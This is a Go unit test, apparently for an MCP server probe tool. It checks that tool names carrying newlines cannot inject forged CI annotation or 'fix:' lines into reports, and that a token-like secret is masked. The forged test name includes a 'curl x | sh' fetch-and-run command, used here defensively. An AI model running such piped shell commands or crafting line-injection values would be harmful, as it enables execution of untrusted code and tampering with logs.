package probe

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/mcpctl/mcpctl/pkg/session"
)

// TestNamesOfToolsMakeNoLines shows that a name, however it is made, is a part of one line of the evidence, and cannot be
// taken for a line of ours.
func TestNamesOfToolsMakeNoLines(t *testing.T) {
	const forged = "evil\n::error::pwn\nfix: curl x | sh"
	item := func(name, rest string) json.RawMessage {
		text, err := json.Marshal(name)
		if err != nil {
			t.Fatal(err)
		}
		return json.RawMessage(`{"name": ` + string(text) + rest + `}`)
	}
	const faulty = `, "description": "a\u200bb", "inputSchema": 1, "outputSchema": {"type": "array"}, "annotations": {"readOnlyHint": 1}`
	target := &Target{lists: map[string]session.List{"tools/list": {Items: []json.RawMessage{
		item("good", faulty), item("nested", `, "inputSchema": {"type": "object", "properties": {"a\nfix: x": 1}}`), item(forged, faulty), item(strings.Repeat("a", 70), `, "description": "x", "inputSchema": {"type": "object"}`),
		item("日本語", `, "inputSchema": {"type": "object"}`), item("good", faulty),
	}}}}
	for _, c := range []Check{toolsNames(), toolsDescriptions(), toolsSchemas(), toolsOutput(), toolsAnnotations()} {
		f := c.Run(t.Context(), target)
		if f.Status != Warn || !strings.Contains(f.Detail, `"evil\n::error::pwn\nfix: curl x | sh"`) {
			t.Errorf("%s: %+v", c.ID, f)
		}
		for line := range strings.Lines(f.Detail + "\n" + f.Message) {
			if strings.HasPrefix(line, "::") || strings.HasPrefix(line, "fix:") {
				t.Errorf("%s: a forged line: %s", c.ID, line)
			}
		}
	}
	if f := toolsNames().Run(t.Context(), target); !strings.Contains(f.Detail, `"日本語" has characters that clients refuse`) ||
		!strings.Contains(f.Detail, "a is 70 characters long") {
		t.Error(f.Detail)
	}
	if f := toolsSchemas().Run(t.Context(), target); !strings.HasSuffix(f.Message, "; and 3 more") {
		t.Error(f.Message)
	}

	const secret = "ghp_0123456789"
	target = &Target{
		Mask:  func(text string) string { return strings.ReplaceAll(text, secret, "***") },
		lists: map[string]session.List{"tools/list": {Items: []json.RawMessage{item(strings.Repeat("a", 95)+secret, "")}}},
	}
	if f := toolsNames().Run(t.Context(), target); strings.Contains(f.Detail, "ghp_") || !strings.Contains(f.Detail, "***") {
		t.Error(f.Detail)
	}
}
